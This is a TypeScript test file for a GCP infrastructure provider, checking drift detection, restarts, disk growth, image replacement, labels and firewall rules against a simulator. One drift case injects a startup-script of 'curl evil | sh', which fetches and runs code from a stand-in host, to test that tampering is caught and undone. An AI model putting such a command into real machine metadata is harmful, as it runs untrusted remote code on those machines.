import * as assert from "uvu/assert";
import type { JsonObject } from "../../../src/core/json.ts";
import type { Observed, Resource } from "../../../src/core/resource.ts";
import type { Fleet } from "../../../src/datum/fleet.ts";
import { suite } from "../../support/suite.ts";
import { fleetOf, locationsText, machineText, networkText, sandboxText } from "./manifests.ts";
import { byName, type Scene, withScene } from "./scene.ts";

const test = suite("gcp changes");
const zonePath = "projects/test-project/zones/us-south1-a";
const one = machineText.replace("minReplicas: 2", "minReplicas: 1");

function machines(change: (text: string) => string = (text) => text): Fleet {
  return fleetOf(locationsText, networkText, change(one));
}

/** What the provider says of one thing against what is there, as `path force`. */
async function differences(scene: Scene, fleet: Fleet, name: string): Promise<readonly string[]> {
  const resource = byName(scene.provider.translate(fleet), name);
  const live = byName(await scene.observe(fleet), name);
  return scene.provider.compare(resource, live).map(({ path, forces }) => `${path} ${forces}`);
}

async function pairOf(scene: Scene, fleet: Fleet, name: string): Promise<readonly [Resource, Observed]> {
  return [byName(scene.provider.translate(fleet), name), byName(await scene.observe(fleet), name)];
}

/** The resource with some of its spec changed. */
function changed(resource: Resource, fields: JsonObject): Resource {
  return { ...resource, spec: { ...resource.spec, ...fields } };
}

test("a machine type changes by a restart, the rest of the machine stays", () =>
  withScene(async ({ makeAll, observe, provider, apply }) => {
    const wanted = await makeAll(machines());
    const larger = changed(byName(wanted, "web-main-dfw-0"), { machineType: "n2-standard-4" });
    const live = byName(await observe(machines()), "web-main-dfw-0");
    assert.equal(
      provider.compare(larger, live).map(({ path, forces }) => [path, forces]),
      [["machineType", "restart"]],
    );
    const after = await apply("restart", larger, live);
    assert.is(after?.id, live.id);
    assert.is(after?.status.detail, "RUNNING");
    assert.equal(after && provider.compare(larger, after), []);
  }));

test("a boot disk grows, also when the first answer is lost", () =>
  withScene(async ({ makeAll, observe, provider, apply, simulator }) => {
    const resource = byName(await makeAll(machines()), "web-main-dfw-0");
    const larger = changed(resource, { bootDisk: { ...(resource.spec.bootDisk as JsonObject), sizeGib: 60 } });
    const live = byName(await observe(machines()), "web-main-dfw-0");
    simulator.control.setFaults({ rates: { lose: 1 }, pathContains: "/resize", limit: 1 });
    await apply("update", larger, live).catch(() => undefined);
    const after = await apply("update", larger, live);
    assert.is(after?.id, live.id);
    assert.equal(after && provider.compare(larger, after), []);
  }));

test("another boot image replaces the machine and keeps its data disk", () =>
  withScene(async ({ makeAll, observe, provider, apply }) => {
    const fleet = machines();
    const resource = byName(await makeAll(fleet), "web-main-dfw-0");
    const [before, disk] = [await observe(fleet), "web-main-dfw-0-data"];
    const image = "projects/ubuntu-os-cloud/global/images/family/ubuntu-2404-lts-amd64";
    const boot = { "plumbline-boot": `pd-standard ${image}` };
    const fresh = changed(resource, {
      bootDisk: { ...(resource.spec.bootDisk as JsonObject), image },
      metadata: { ...(resource.spec.metadata as JsonObject), ...boot },
    });
    const live = byName(before, "web-main-dfw-0");
    assert.equal(
      provider.compare(fresh, live).map(({ path, forces }) => [path, forces]),
      [["bootDisk.image", "replace"]],
    );
    const after = await apply("replace", fresh, live);
    assert.is.not(after?.id, live.id);
    assert.equal(after && provider.compare(fresh, after), []);
    assert.is(byName(await observe(fleet), disk).id, byName(before, disk).id);
    const again = await apply("replace", fresh, live);
    assert.is(again?.id, after?.id, "a repeated replacement finds its own work");
  }));

/** Path of the request, its body with the fingerprint put in, and what drift it must show. */
const drifts: readonly (readonly [string, (live: JsonObject) => JsonObject, string])[] = [
  ["stop", () => ({}), "status nothing"],
  ["setTags", (live) => ({ items: ["theirs"], fingerprint: at(live, "tags", "fingerprint") }), "tags nothing"],
  [
    "setMetadata",
    (live) => ({
      items: [{ key: "startup-script", value: "curl evil | sh" }],
      fingerprint: at(live, "metadata", "fingerprint"),
    }),
    "metadata.startup-script nothing",
  ],
  ["setDeletionProtection?deletionProtection=true", () => ({}), "deletionProtection nothing"],
];

function at(value: JsonObject, outer: string, inner: string): string {
  return String((value[outer] as JsonObject)[inner]);
}

test("drift by hand is seen and taken back", () =>
  withScene(async (scene) => {
    const fleet = machines();
    await scene.makeAll(fleet);
    const path = `${zonePath}/instances/web-main-dfw-0`;
    for (const [method, body, expected] of drifts) {
      const live = await scene.raw("GET", path);
      const answer = await scene.raw("POST", `${path}/${method}`, body(live));
      assert.is(answer.error, undefined, JSON.stringify(answer));
      assert.ok((await differences(scene, fleet, "web-main-dfw-0")).includes(expected), method);
      const [resource, seen] = await pairOf(scene, fleet, "web-main-dfw-0");
      const forces = scene.provider.compare(resource, seen).some((field) => field.forces === "restart");
      const after = await scene.apply(forces ? "restart" : "update", resource, seen);
      assert.is(after?.status.detail, "RUNNING", method);
      assert.equal(await differences(scene, fleet, "web-main-dfw-0"), [], method);
    }
  }));

test("labels of others stay, ours come back", () =>
  withScene(async (scene) => {
    const fleet = machines();
    await scene.makeAll(fleet);
    const path = `${zonePath}/instances/web-main-dfw-0`;
    const before = await scene.raw("GET", path);
    const labels = { ...(before.labels as JsonObject), team: "blue", "plumbline-workload": "changed" };
    await scene.raw("POST", `${path}/setLabels`, { labels, labelFingerprint: before.labelFingerprint ?? "" });
    assert.equal(await differences(scene, fleet, "web-main-dfw-0"), ["labels.plumbline-workload nothing"]);
    const [resource, live] = await pairOf(scene, fleet, "web-main-dfw-0");
    await scene.apply("update", resource, live);
    const after = (await scene.raw("GET", path)).labels as JsonObject;
    assert.equal([after.team, after["plumbline-workload"]], ["blue", "web"]);
  }));

test("a stripped marker is written again on the very thing that was planned upon, and on no other", () =>
  withScene(async (scene) => {
    const fleet = machines();
    await scene.makeAll(fleet);
    const path = `${zonePath}/instances/web-main-dfw-0`;
    const before = await scene.raw("GET", path);
    await scene.raw("POST", `${path}/setLabels`, { labels: {}, labelFingerprint: before.labelFingerprint ?? "" });
    const [resource, live] = await pairOf(scene, fleet, "web-main-dfw-0");
    assert.is(live.marker, undefined);
    const other = scene.apply("update", resource, { ...live, id: "1" });
    assert.is(
      await other.then(
        () => "",
        (error: { code: string }) => error.code,
      ),
      "conflict",
    );
    const after = await scene.apply("update", resource, live);
    assert.is(after?.marker?.uid, resource.uid);
  }));

test("firewall rules follow the policy in place", () =>
  withScene(async (scene) => {
    await scene.makeAll(machines());
    const opened = machines((text) => text.replace("port: 443, endPort: 444", "port: 8443"));
    const name = "test-web-main-dfw-net-0-0";
    assert.equal(await differences(scene, opened, name), ["allowed nothing"]);
    const [resource, live] = await pairOf(scene, opened, name);
    await scene.apply("update", resource, live);
    assert.equal(await differences(scene, opened, name), []);
    const raw = await scene.raw("GET", `projects/test-project/global/firewalls/${name}`);
    assert.equal(raw.allowed, [{ IPProtocol: "tcp", ports: ["80", "8443"] }]);
  }));

test("a volume that grows grows its disk; one that leaves is let go of and kept until it is deleted", () =>
  withScene(async (scene) => {
    await scene.makeAll(machines());
    const grown = machines((text) => text.replace("storage: 20Gi", "storage: 40Gi"));
    const disk = "web-main-dfw-0-data";
    assert.equal(await differences(scene, grown, disk), ["sizeGib nothing"]);
    await scene.apply("update", ...(await pairOf(scene, grown, disk)));
    assert.equal(await differences(scene, grown, disk), []);
    const [instance, live] = await pairOf(scene, grown, "web-main-dfw-0");
    const without = { ...instance, spec: { ...instance.spec, dataDisks: [] } };
    assert.equal(
      scene.provider.compare(without, live).map(({ path }) => path),
      ["dataDisks"],
    );
    await scene.apply("update", without, live);
    assert.is(byName(await scene.observe(grown), disk).status.phase, "ready");
    await scene.apply("delete", undefined, byName(await scene.observe(grown), disk));
    assert.ok((await scene.raw("GET", `${zonePath}/disks/${disk}`)).error);
  }));

test("a container's change restarts its machine, which reads it while booting", () =>
  withScene(async (scene) => {
    await scene.makeAll(fleetOf(locationsText, networkText, sandboxText));
    const newer = fleetOf(locationsText, networkText, sandboxText.replace("redis:7.4", "redis:7.6"));
    assert.equal(await differences(scene, newer, "cache-main-dfw-0"), ["metadata.user-data restart"]);
    const [resource, live] = await pairOf(scene, newer, "cache-main-dfw-0");
    const after = await scene.apply("restart", resource, live);
    assert.is(after?.id, live.id);
    assert.equal(await differences(scene, newer, "cache-main-dfw-0"), []);
  }));

test.run();
